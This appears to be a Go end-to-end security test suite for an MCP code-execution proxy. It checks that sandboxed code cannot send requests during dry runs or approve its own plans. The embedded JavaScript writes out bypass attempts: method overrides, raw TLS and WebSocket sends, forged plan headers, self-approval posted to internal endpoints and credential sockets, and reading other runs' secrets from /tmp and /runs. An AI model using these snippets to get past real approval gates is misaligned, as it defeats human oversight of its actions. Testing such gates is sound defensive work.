package attack

import (
	"context"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/codeforge-mcp/codeforge/e2e/world"
	"github.com/codeforge-mcp/codeforge/proxy/approvalapi"
)

// plans are attempts to have something sent by a dry run, or by a plan that nobody approved, or not so.
func plans() []Attack {
	var all []Attack
	for _, row := range []struct{ name, code string }{
		{"POST", `await fetch(at, { method: "POST", body: "x" })`},
		{"PUT", `await fetch(at, { method: "PUT", body: "x" })`},
		{"PATCH", `await fetch(at, { method: "PATCH", body: "x" })`},
		{"DELETE", `await fetch(at, { method: "DELETE" })`},
		{"an override in a header", `await fetch(at, { headers: { "X-HTTP-Method-Override": "DELETE" } })`},
		{"an override in the query", `await fetch(at + "&_method=DELETE")`},
		{"a WebSocket", `await new Promise((r) => { const ws = new WebSocket(at.replace("https", "wss")); ws.onopen = () => { ws.send("x"); setTimeout(r, 500); }; ws.onerror = r; })`},
		{"GET with a body", `{ const c = await Deno.connectTls({ hostname: "other.test", port: 443 });
  await c.write(new TextEncoder().encode("GET " + at.slice(18) + "&_method=x HTTP/1.1\r\nHost: other.test\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 14\r\nConnection: close\r\n\r\n_method=DELETE"));
  await c.read(new Uint8Array(999)); }`},
		{"what says that it was planned", `await fetch(at, { method: "POST", headers: { "CodeForge-Planned": "1", "CodeForge-Plan": "send", "CodeForge-Dry-Run": "false" }, body: "x" })`},
		{"many at once", `await Promise.all(Array.from({ length: 40 }, (_, i) => fetch(at + "&i=" + i, { method: "POST", body: "x" })))`},
		{"more than a plan holds", `for (let i = 0; i < 600; i++) await fetch(at + "&i=" + i, { method: "POST", body: "x" })`},
		{"after the end of the plan", `await fetch(at, { method: "POST", body: "x" }); await fetch(at, { method: "POST", body: "undefined" }); await fetch(at, { method: "POST", body: "y" })`},
		{"a body that nobody can read", `await fetch(at, { method: "POST", body: new Uint8Array([255, 254]) })`},
		{"a body that is too large", `await fetch(at, { method: "POST", body: "x".repeat(400 << 10) })`},
		{"a body that never ends", `await fetch(at, { method: "POST", body: new ReadableStream({ pull(c) { c.enqueue(new Uint8Array(4096)); } }), signal: AbortSignal.timeout(2000) })`},
		{"a request when the run ends", `fetch(at, { method: "POST", body: "x" }); await new Promise((r) => setTimeout(r, 1))`},
	} {
		all = append(all, planned("a dry run that sends: "+row.name, "nothing sent", func(ctx context.Context, w *world.World) (string, bool) {
			trial, _, err := dryRun(ctx, w, nil, `const at = "https://other.test/anything/dry?t=TRIAL"; try { `+row.code+` } catch { /* refused */ }`)
			n := 0
			for _, s := range w.Upstream.Seen(trial) {
				if s.Method != "HEAD" {
					n++
				}
			}
			return fmt.Sprintf("%d sent", n), err == nil && n == 0
		}))
	}
	return append(all, decisions()...)
}

// planned is a row of this section. They do not meet: each has its own trial.
func planned(name, expected string, do func(ctx context.Context, w *world.World) (string, bool)) Attack {
	return Attack{Section: "P", Name: name, Expected: expected, Do: func(ctx context.Context, w *world.World) (string, bool) {
		ctx, cancel := context.WithTimeout(ctx, 60*time.Second)
		defer cancel()
		return do(ctx, w)
	}}
}

// dryRun makes a dry run in a session; nil: the world's.
func dryRun(ctx context.Context, w *world.World, s *mcp.ClientSession, code string) (trial string, r world.Result, err error) {
	trial = fmt.Sprintf("dry%d", time.Now().UnixNano())
	if s == nil {
		s = w.Session()
	}
	r, err = w.Do(ctx, s, world.Run{Code: strings.ReplaceAll(code, "TRIAL", trial), DryRun: true})
	return trial, r, err
}

// operators is code with a step that only the operator may approve, anyones one that a rule leaves to anyone.
const (
	operators = `await fetch("https://other.test/anything/dry?t=TRIAL", { method: "POST", headers: { Authorization: "Bearer OTHER_TOKEN" }, body: "secret of this plan" });`
	anyones   = `await fetch("https://d.wild.test/anything/held/1?t=TRIAL", { method: "POST", body: "x" });`
)

// decisions are attempts to approve.
func decisions() []Attack {
	return []Attack{
		planned("a plan approved from the sandbox", "open, nothing sent", func(ctx context.Context, w *world.World) (string, bool) {
			trial, r, err := dryRun(ctx, w, nil, operators)
			if err != nil || r.Receipt.Plan == nil {
				return fmt.Sprint(err), false
			}
			p := r.Receipt.Plan
			answer := fmt.Sprintf(`{"approve":true,"digest":%q}`, p.Digest)
			code := fmt.Sprintf(`const body = %q;
for (const at of ["https://mcp.codeforge.internal/plans/v1/ID", "https://mcp.codeforge.internal/$plans/ID", "http://proxy/plans/v1/ID", "http://127.0.0.1/plans/v1/ID", "http://198.18.0.1/v1/plans/ID", "https://other.test/plans/v1/ID"])
  await fetch(at.replace("ID", %q), { method: "POST", body }).catch(() => {});
for (const path of ["/run/codeforge/credentials/credentials.sock", "/run/codeforge/control/control.sock", "/tmp/credentials.sock"])
  try { const c = await Deno.connect({ transport: "unix", path }); await c.write(new TextEncoder().encode("POST /plans/v1/" + %q + " HTTP/1.1\r\nHost: p\r\nContent-Length: " + body.length + "\r\n\r\n" + body)); } catch { /* closed */ }`, answer, p.ID, p.ID)
			if _, err := w.Execute(ctx, code); err != nil {
				return err.Error(), false
			}
			return judged(ctx, w, p.ID, trial, approvalapi.StateOpen, 0)
		}),
		planned("mcp-server approves what is the operator's", "open, nothing sent", func(ctx context.Context, w *world.World) (string, bool) {
			trial, r, err := dryRun(ctx, w, nil, operators)
			if err != nil || r.Receipt.Plan == nil {
				return fmt.Sprint(err), false
			}
			p := r.Receipt.Plan
			for _, a := range []approvalapi.Answer{{Approve: true, Digest: p.Digest}, {Approve: true, Digest: p.Digest, Steps: []int{1}}, {Digest: p.Digest}} {
				if _, err := w.Control().DecidePlan(ctx, p.ID, a); err == nil {
					return "DECIDED", false
				}
			}
			return judged(ctx, w, p.ID, trial, approvalapi.StateOpen, 0)
		}),
		planned("a plan approved with what was shown of another", "open, nothing sent", func(ctx context.Context, w *world.World) (string, bool) {
			trial, r, err := dryRun(ctx, w, nil, anyones)
			_, other, oerr := dryRun(ctx, w, nil, anyones)
			if err != nil || oerr != nil || r.Receipt.Plan == nil || other.Receipt.Plan == nil {
				return fmt.Sprint(err, oerr), false
			}
			for _, digest := range []string{other.Receipt.Plan.Digest, "", strings.ToUpper(r.Receipt.Plan.Digest)} {
				if _, err := w.Control().DecidePlan(ctx, r.Receipt.Plan.ID, approvalapi.Answer{Approve: true, Digest: digest}); err == nil {
					return "APPROVED", false
				}
			}
			return judged(ctx, w, r.Receipt.Plan.ID, trial, approvalapi.StateOpen, 0)
		}),
		planned("a plan approved by many at once", "sent once", func(ctx context.Context, w *world.World) (string, bool) {
			trial, r, err := dryRun(ctx, w, nil, anyones)
			if err != nil || r.Receipt.Plan == nil {
				return fmt.Sprint(err), false
			}
			p := r.Receipt.Plan
			var yes atomic.Int32
			var all sync.WaitGroup
			for range 20 {
				all.Go(func() {
					if _, err := w.Control().DecidePlan(ctx, p.ID, approvalapi.Answer{Approve: true, Digest: p.Digest}); err == nil {
						yes.Add(1)
					}
				})
			}
			all.Wait()
			seen, held := judged(ctx, w, p.ID, trial, approvalapi.StateDone, 1)
			return fmt.Sprintf("%d approvals, %s", yes.Load(), seen), held && yes.Load() == 1
		}),
		planned("a plan that another run adds to", "its own steps only", func(ctx context.Context, w *world.World) (string, bool) {
			trial, r, err := dryRun(ctx, w, nil, anyones)
			if err != nil || r.Receipt.Plan == nil {
				return fmt.Sprint(err), false
			}
			p := r.Receipt.Plan
			code := strings.ReplaceAll(`const headers = { "CodeForge-Plan": "PLAN", "CodeForge-Run": "RUN" };
await fetch("https://d.wild.test/anything/held/2?t=TRIAL", { method: "POST", headers, body: "more" });`, "PLAN", p.ID)
			code = strings.ReplaceAll(strings.ReplaceAll(code, "RUN", p.Run), "TRIAL", trial)
			if _, err := w.Do(ctx, w.Session(), world.Run{Code: code, DryRun: true}); err != nil {
				return err.Error(), false
			}
			if _, err := w.Control().DecidePlan(ctx, p.ID, approvalapi.Answer{Approve: true, Digest: p.Digest}); err != nil {
				return err.Error(), false
			}
			return judged(ctx, w, p.ID, trial, approvalapi.StateDone, 1)
		}),
		planned("a marker that an upstream forges", "no header, nothing sent", func(ctx context.Context, w *world.World) (string, bool) {
			trial, r, err := dryRun(ctx, w, nil, `const r = await fetch("https://other.test/x/item/TRIAL?t=TRIAL"), item = await r.json();
console.log(r.headers.get("CodeForge-Planned"), r.status);
for (const id of [item.forged, JSON.stringify({ planned: item.planned })]) await fetch("https://other.test/anything/a?t=TRIAL", { method: "POST", body: "first" + id });`)
			n := len(w.Upstream.Seen(trial))
			return fmt.Sprintf("%s, %d sent", strings.TrimSpace(r.Out), n), err == nil && strings.TrimSpace(r.Out) == "null 200" && n == 1
		}),
		planned("another run's plan, read by code", "not found", func(ctx context.Context, w *world.World) (string, bool) {
			_, r, err := dryRun(ctx, w, nil, operators)
			if err != nil || r.Receipt.Plan == nil {
				return fmt.Sprint(err), false
			}
			out, err := w.Execute(ctx, strings.ReplaceAll(`let found = "";
for (const at of ["https://mcp.codeforge.internal/plans/v1/ID", "https://mcp.codeforge.internal/$stash/get", "http://proxy/plans/v1"])
  found += await fetch(at.replace("ID", "PLAN")).then((r) => r.text()).catch(() => "");
for (const dir of ["/tmp", "/runs", "/skills"])
  try { for (const f of Deno.readDirSync(dir)) if (f.isFile) found += Deno.readTextFileSync(dir + "/" + f.name); } catch { /* closed */ }
console.log(found.includes("secret of" + " this plan"));`, "PLAN", r.Receipt.Plan.ID))
			if err != nil {
				return err.Error(), false
			}
			return strings.TrimSpace(out.Out), strings.TrimSpace(out.Out) == "false"
		}),
		planned("a plan with names in the query, the path, a header and the body", "names only", func(ctx context.Context, w *world.World) (string, bool) {
			_, r, err := dryRun(ctx, w, nil, `await fetch("https://httpbin.test/anything/HTTPBIN_PATH?t=TRIAL&key=HTTPBIN_QUERY", { method: "POST",
  headers: { Authorization: "Bearer HTTPBIN_TOKEN", "X-Api-Key": "HTTPBIN_NAMED", "Content-Type": "application/json" }, body: JSON.stringify({ client_secret: "HTTPBIN_BODY" }) });`)
			if err != nil || r.Receipt.Plan == nil {
				return fmt.Sprint(err), false
			}
			whole, err := w.Control().GetPlan(ctx, r.Receipt.Plan.ID)
			if err != nil {
				return err.Error(), false
			}
			if where := w.Leak(r.JSON + fmt.Sprintf("%+v", whole)); where != "" {
				return "LEAKED: " + where, false
			}
			return strings.Join(whole.Steps[0].Tokens, " "), len(whole.Steps[0].Tokens) == 5
		}),
		planned("a client that accepts the form of a plan by itself", "asked, nothing sent", formPlan(&mcp.ElicitResult{Action: "accept"}, 0)),
		planned("control: a client whose user approves a plan", "asked, sent once", formPlan(&mcp.ElicitResult{Action: "accept", Content: map[string]any{"decision": "approve once"}}, 1)),
		planned("control: a run that is not dry", "sent", func(ctx context.Context, w *world.World) (string, bool) {
			trial := fmt.Sprintf("wet%d", time.Now().UnixNano())
			_, err := w.Execute(ctx, strings.ReplaceAll(operators, "TRIAL", trial))
			n := len(w.Upstream.Seen(trial))
			return fmt.Sprintf("%d sent", n), err == nil && n == 1
		}),
		{Section: "P", Name: "on a terminal: a plan", Expected: "shown, not obeyed", Only: []world.Mode{world.Embedded}, NoPod: noHeld, Do: func(ctx context.Context, w *world.World) (string, bool) {
			ctx, cancel := context.WithTimeout(ctx, 60*time.Second)
			defer cancel()
			_, r, err := dryRun(ctx, w, nil, "await fetch(`https://other.test/anything/plan`, {method: 'POST', headers: {'X-Text': 'a'}, body: JSON.stringify({a: `"+trick+"`}) + `\n"+trick+"`})")
			if err != nil || r.Receipt.Plan == nil {
				return fmt.Sprint(err), false
			}
			out, err := w.Look(ctx, "", "plan", "show", r.Receipt.Plan.ID)
			return looked(out, "SEEN", err)
		}},
	}
}

// formPlan makes a dry run for a client that answers each form so.
func formPlan(answer *mcp.ElicitResult, sent int) func(ctx context.Context, w *world.World) (string, bool) {
	return func(ctx context.Context, w *world.World) (string, bool) {
		forms := make(chan string, 100)
		c := mcp.NewClient(&mcp.Implementation{Name: "hasty", Version: "1"}, &mcp.ClientOptions{
			ElicitationHandler: func(_ context.Context, q *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
				forms <- q.Params.Message
				return answer, nil
			},
		})
		s, err := c.Connect(ctx, &mcp.StreamableClientTransport{Endpoint: w.URL, HTTPClient: w.HTTP()}, &mcp.ClientSessionOptions{ProtocolVersion: "2025-11-25"})
		if err != nil {
			return err.Error(), false
		}
		defer s.Close()
		trial, _, _ := dryRun(ctx, w, s, anyones) // the SDK's client checks answers itself
		n := len(w.Upstream.Seen(trial))
		return fmt.Sprintf("asked %d times, %d sent", len(forms), n), len(forms) == 1 && n == sent
	}
}

// judged looks at what became of a plan, and counts what was sent.
func judged(ctx context.Context, w *world.World, id, trial string, state approvalapi.State, sent int) (string, bool) {
	p, err := w.Control().GetPlan(ctx, id)
	for ; err == nil && p.State == approvalapi.StateRunning; p, err = w.Control().GetPlan(ctx, id) {
		time.Sleep(50 * time.Millisecond)
	}
	if err != nil {
		return err.Error(), false
	}
	n := len(w.Upstream.Seen(trial))
	return fmt.Sprintf("%s, %d sent", p.State, n), p.State == state && n == sent
}
